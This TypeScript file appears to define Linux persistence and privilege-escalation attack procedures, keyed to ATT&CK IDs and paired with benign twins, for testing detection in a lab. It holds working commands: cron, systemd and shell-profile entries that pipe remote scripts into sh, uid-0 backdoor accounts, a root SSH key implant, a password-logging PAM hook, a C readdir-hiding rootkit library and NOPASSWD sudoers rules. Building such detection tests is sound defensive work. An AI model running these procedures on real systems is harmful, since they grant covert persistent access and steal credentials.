// Persistence and privilege escalation: attack procedures of our own, each with a benign twin (see types.ts).
// Procedures that would change how the rest of the lab behaves (PAM stacks, the loader's preload list, sudo
// rights) undo their change once it is made: later techniques in the same lab run must meet a normal host.
// No kernel module can load here: the module files are not ELF objects and the module names do not exist,
// so the kernel (or modprobe) refuses them (this machine's kernel has no /proc/modules: it was built without
// module support); what counts is that the attempt and the configuration are seen.
import type { Technique } from './types.js';
import { INTERNET } from '../technique-lab.js';

/** A readdir hook that hides directory entries named lab_hidden*: the core of libprocesshider-style rootkits. */
const HIDING_LIBRARY = `cat > /tmp/.b/h.c <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
static int hidden(const char *n) { return strncmp(n, "lab_hidden", 10) == 0; }
struct dirent *readdir(DIR *d) {
  static struct dirent *(*real)(DIR *);
  if (!real) real = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  while ((e = real(d)) && hidden(e->d_name)) {}
  return e;
}
struct dirent64 *readdir64(DIR *d) {
  static struct dirent64 *(*real)(DIR *);
  if (!real) real = dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *e;
  while ((e = real(d)) && hidden(e->d_name)) {}
  return e;
}
EOF`;

/** Bytes that look like a module file by name only: the kernel's ELF check refuses them. */
const FAKE_MODULE = (path: string) => `head -c 4096 /dev/urandom > ${path}`;

export const persistence: Technique[] = [
  {
    id: 'T1136.001',
    name: 'Create local account',
    tactic: 'persistence',
    procedures: [
      { name: 'useradd with a password', script: 'useradd -M -s /bin/bash -G sudo sysupdate && echo "sysupdate:Upd4te-2026" | chpasswd' },
      { name: 'useradd -o -u 0 (a second root)', script: 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbackup' },
      {
        name: 'uid 0 account appended to /etc/passwd and /etc/shadow',
        script: `echo 'toor:x:0:0:toor:/root:/bin/bash' >> /etc/passwd && echo "toor:$(openssl passwd -6 Lab-toor-2026):20000:0:99999:7:::" >> /etc/shadow`,
      },
    ],
    benign: { name: 'look up accounts', script: 'getent passwd alice bob >/dev/null && id olduser' },
  },
  {
    id: 'T1098',
    name: 'Account manipulation',
    tactic: 'persistence',
    procedures: [
      { name: 'usermod -aG sudo', script: 'usermod -aG sudo bob' },
      { name: 'gpasswd -a into sudo', script: 'gpasswd -a olduser sudo' },
    ],
    benign: { name: 'show groups and password ageing', script: 'groups bob && chage -l alice >/dev/null' },
  },
  {
    id: 'T1098.004',
    name: 'SSH authorized keys',
    tactic: 'persistence',
    procedures: [
      {
        name: "attacker's key appended to root's authorized_keys",
        script: `rm -f /tmp/.k /tmp/.k.pub && ssh-keygen -q -t ed25519 -N '' -C '' -f /tmp/.k && mkdir -p -m 700 /root/.ssh && cat /tmp/.k.pub >> /root/.ssh/authorized_keys && rm -f /tmp/.k /tmp/.k.pub`,
      },
      {
        name: 'authorized_keys rewritten with identical content',
        user: 'alice',
        script: 'cp ~/.ssh/authorized_keys /tmp/.ak && cat /tmp/.ak > ~/.ssh/authorized_keys && rm -f /tmp/.ak',
      },
    ],
    benign: {
      name: 'key-based ssh login',
      user: 'alice',
      script: 'ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i ~/.ssh/id_ed25519 alice@127.0.0.1 true',
    },
  },
  {
    id: 'T1053.003',
    name: 'Cron',
    tactic: 'persistence',
    procedures: [
      {
        name: 'crontab -l | crontab -',
        script: `(crontab -l 2>/dev/null; echo '*/10 * * * * curl -fsS http://${INTERNET.web}/u.sh | sh') | crontab -`,
      },
      { name: '/etc/cron.d file', script: `printf '*/5 * * * * root /usr/bin/wget -q -O- http://${INTERNET.web}/c | /bin/sh\\n' > /etc/cron.d/0sync-helper` },
    ],
    benign: {
      name: 'nightly logrotate job in /etc/cron.d',
      script: "printf '30 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\\n' > /etc/cron.d/logrotate-nightly",
    },
  },
  {
    id: 'T1053.006',
    name: 'Systemd timers',
    tactic: 'persistence',
    procedures: [
      {
        name: 'timer and service written with a heredoc',
        script: [
          "cat > /etc/systemd/system/apt-cache-refresh.service <<'EOF'",
          '[Service]',
          `ExecStart=/bin/sh -c 'curl -fsS http://${INTERNET.web}/t | sh'`,
          'EOF',
          "cat > /etc/systemd/system/apt-cache-refresh.timer <<'EOF'",
          '[Timer]',
          'OnCalendar=*:0/15',
          '[Install]',
          'WantedBy=timers.target',
          'EOF',
        ].join('\n'),
      },
      {
        name: 'timer installed with install(1) and enabled by symlink',
        script: [
          "printf '[Timer]\\nOnBootSec=1min\\nOnUnitActiveSec=1h\\n[Install]\\nWantedBy=timers.target\\n' > /tmp/.t",
          'install -m 0644 /tmp/.t /etc/systemd/system/logrotate-extra.timer',
          'ln -sf /etc/systemd/system/logrotate-extra.timer /etc/systemd/system/timers.target.wants/logrotate-extra.timer',
          'rm -f /tmp/.t',
        ].join('\n'),
      },
    ],
    benign: {
      name: 'backup timer for a packaged script, checked with systemd-analyze',
      script: [
        "printf '[Service]\\nExecStart=/usr/bin/tar -czf /var/backups/etc.tgz /etc\\n' > /etc/systemd/system/etc-backup.service",
        "printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/etc-backup.timer",
        'systemd-analyze calendar daily >/dev/null',
      ].join('\n'),
    },
  },
  {
    id: 'T1543.002',
    name: 'Systemd service',
    tactic: 'persistence',
    procedures: [
      {
        name: 'service unit with ExecStart in /var/tmp',
        script: [
          "printf '#!/bin/sh\\nwhile :; do sleep 60; done\\n' > /var/tmp/.dbus-helper && chmod +x /var/tmp/.dbus-helper",
          "printf '[Unit]\\nDescription=D-Bus helper\\n[Service]\\nExecStart=/var/tmp/.dbus-helper\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/dbus-helper.service",
        ].join('\n'),
      },
      {
        name: 'systemctl enable by a symlink in wants/',
        script: [
          "printf '[Service]\\nExecStart=/dev/shm/.u\\n' > /dev/shm/.u.service",
          'ln -s /dev/shm/.u.service /etc/systemd/system/multi-user.target.wants/udev-settle-helper.service',
        ].join('\n'),
      },
    ],
    benign: {
      name: 'service unit for an application in /opt',
      script:
        "mkdir -p /opt/app/bin && printf '[Unit]\\nDescription=App\\n[Service]\\nUser=www-data\\nExecStart=/opt/app/bin/app\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/app.service",
    },
  },
  {
    id: 'T1037.004',
    name: 'RC scripts',
    tactic: 'persistence',
    procedures: [
      {
        name: 'rc.local created',
        script: `printf '#!/bin/sh -e\\n(curl -fsS http://${INTERNET.web}/r | sh) &\\nexit 0\\n' > /etc/rc.local && chmod 755 /etc/rc.local`,
      },
      { name: 'rc.local appended with tee -a', script: "echo 'nohup /var/tmp/.dbus-helper >/dev/null 2>&1 &' | tee -a /etc/rc.local >/dev/null" },
      {
        name: 'SysV init script installed with update-rc.d',
        script: [
          "printf '#!/bin/sh\\n### BEGIN INIT INFO\\n# Provides: net-helper\\n# Required-Start: $network\\n# Required-Stop:\\n# Default-Start: 2 3 4 5\\n# Default-Stop:\\n### END INIT INFO\\n/var/tmp/.dbus-helper &\\n' > /etc/init.d/net-helper",
          'chmod 755 /etc/init.d/net-helper',
          'update-rc.d net-helper defaults >/dev/null 2>&1 || true',
        ].join('\n'),
      },
    ],
    benign: { name: 'list boot scripts', script: 'ls -l /etc/init.d >/dev/null; cat /etc/rc.local >/dev/null 2>&1; true' },
  },
  {
    id: 'T1546.004',
    name: 'Unix shell configuration modification',
    tactic: 'persistence',
    procedures: [
      { name: "root's .bashrc appended", script: `echo '(curl -fsS http://${INTERNET.web}/b | sh >/dev/null 2>&1 &)' >> /root/.bashrc` },
      {
        name: '/etc/profile.d script dropped',
        script: `printf 'export PROMPT_COMMAND="history -a; (wget -qO- http://${INTERNET.web}/p | sh &) >/dev/null 2>&1"\\n' > /etc/profile.d/01-locale-fix.sh`,
      },
    ],
    benign: { name: 'alias added to her own .bashrc', user: 'alice', script: 'echo "alias ll=\'ls -l\'" >> ~/.bashrc && bash -ic ll >/dev/null 2>&1; true' },
  },
  {
    id: 'T1556.003',
    name: 'Pluggable authentication modules',
    tactic: 'persistence',
    procedures: [
      {
        name: 'pam_permit line added to su (then undone)',
        script:
          "cp -p /etc/pam.d/su /tmp/.su && sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su && sleep 0.2 && cat /tmp/.su > /etc/pam.d/su && rm -f /tmp/.su",
      },
      {
        name: 'pam_exec with expose_authtok in common-auth (then undone)',
        script: [
          'printf \'#!/bin/sh\\nread pw; echo "$PAM_USER $pw" >> /var/tmp/.pw\\n\' > /usr/local/bin/pam-log && chmod 755 /usr/local/bin/pam-log',
          'cp -p /etc/pam.d/common-auth /tmp/.ca',
          "echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/pam-log' >> /etc/pam.d/common-auth",
          'sleep 0.2',
          'cat /tmp/.ca > /etc/pam.d/common-auth && rm -f /tmp/.ca',
        ].join('\n'),
      },
    ],
    benign: {
      name: 'open-file limit for pam_limits in limits.d',
      script: "mkdir -p /etc/security/limits.d && echo '* soft nofile 65536' > /etc/security/limits.d/90-nofile.conf",
    },
  },
  {
    id: 'T1574.006',
    name: 'Dynamic linker hijacking',
    tactic: 'persistence',
    procedures: [
      {
        name: 'LD_PRELOAD in an exec environment',
        script:
          'mkdir -p /tmp/.l && echo "void x(void){}" > /tmp/.l/x.c && gcc -shared -fPIC -o /tmp/.l/libx.so /tmp/.l/x.c && LD_PRELOAD=/tmp/.l/libx.so /bin/true && rm -rf /tmp/.l',
      },
      {
        name: '/etc/ld.so.preload written (then removed)',
        script:
          'cp /usr/lib/x86_64-linux-gnu/libdl.so.2 /usr/local/lib/libdl-helper.so.2 && echo /usr/local/lib/libdl-helper.so.2 > /etc/ld.so.preload && /bin/true && rm -f /etc/ld.so.preload',
      },
    ],
    benign: {
      name: 'library installed in /usr/local/lib with ldconfig',
      script:
        'mkdir -p /tmp/.c && echo "int f(void){return 1;}" > /tmp/.c/f.c && gcc -shared -fPIC -o /usr/local/lib/libf.so /tmp/.c/f.c && ldconfig && rm -rf /tmp/.c',
    },
  },
  {
    id: 'T1547.006',
    name: 'Kernel modules and extensions',
    tactic: 'persistence',
    procedures: [
      {
        name: 'insmod of a module file from /var/tmp',
        script: `${FAKE_MODULE('/var/tmp/nf_conntrack_helper.ko')}; insmod /var/tmp/nf_conntrack_helper.ko 2>/dev/null; rm -f /var/tmp/nf_conntrack_helper.ko; true`,
      },
      { name: 'modules-load.d entry and modprobe', script: 'echo lab_nf_hook > /etc/modules-load.d/nf-hook.conf && (modprobe lab_nf_hook 2>/dev/null; true)' },
      { name: 'modprobe.d install hook', script: "echo 'install lab_usb_helper /bin/sh -c /var/tmp/.dbus-helper' > /etc/modprobe.d/usb-helper.conf" },
    ],
    benign: { name: 'driver blacklisted in modprobe.d', script: "echo 'blacklist pcspkr' > /etc/modprobe.d/blacklist-pcspkr.conf" },
  },
  {
    id: 'T1014',
    name: 'Rootkit',
    tactic: 'defense-evasion',
    procedures: [
      {
        name: 'readdir-hiding library in /usr/local/lib preloaded by ld.so.preload (then removed)',
        script: [
          'mkdir -p /tmp/.b',
          HIDING_LIBRARY,
          'gcc -shared -fPIC -O2 -o /usr/local/lib/libnss_cache.so.2 /tmp/.b/h.c -ldl',
          'touch /tmp/lab_hidden_payload',
          'echo /usr/local/lib/libnss_cache.so.2 > /etc/ld.so.preload',
          'ls /tmp | grep -c lab_hidden',
          'rm -f /etc/ld.so.preload /tmp/lab_hidden_payload && rm -rf /tmp/.b',
        ].join('\n'),
      },
      {
        name: 'kernel rootkit module load attempt from /tmp',
        script: `mkdir -p /tmp/.r && ${FAKE_MODULE('/tmp/.r/diamorphine.ko')} && (insmod /tmp/.r/diamorphine.ko 2>/dev/null; true) && rm -rf /tmp/.r`,
      },
    ],
    benign: { name: 'ldd and the loader cache', script: 'ldd /bin/ls >/dev/null && ldconfig -p | grep -q libc.so' },
  },
  {
    id: 'T1548.001',
    name: 'Setuid and setgid',
    tactic: 'privilege-escalation',
    procedures: [
      { name: 'chmod u+s on a copied shell in /tmp', script: 'cp /bin/bash /tmp/.sh && chmod u+s /tmp/.sh && rm -f /tmp/.sh' },
      {
        name: 'setcap cap_setuid on a copied python',
        script: 'cp /usr/bin/python3.11 /var/tmp/.py && setcap cap_setuid+ep /var/tmp/.py && rm -f /var/tmp/.py',
      },
    ],
    benign: { name: 'setgid shared folder', script: 'mkdir -p /opt/shared && chgrp users /opt/shared && chmod 2775 /opt/shared' },
  },
  {
    id: 'T1548.003',
    name: 'Sudo and sudo caching',
    tactic: 'privilege-escalation',
    procedures: [
      { name: 'NOPASSWD drop-in in sudoers.d', script: "echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-www && chmod 440 /etc/sudoers.d/90-www" },
      {
        name: 'NOPASSWD line in /etc/sudoers, then sudo -l and sudo -n by bob (then removed)',
        script: [
          "cp -p /etc/sudoers /tmp/.s && sed -i '$a bob ALL=(ALL) NOPASSWD: /bin/bash' /etc/sudoers",
          'runuser -u bob -- sudo -n -l >/dev/null',
          'runuser -u bob -- sudo -n /bin/bash -c id',
          'cat /tmp/.s > /etc/sudoers && rm -f /tmp/.s',
        ].join('\n'),
      },
    ],
    benign: { name: 'visudo -c', script: 'visudo -c >/dev/null' },
  },
];
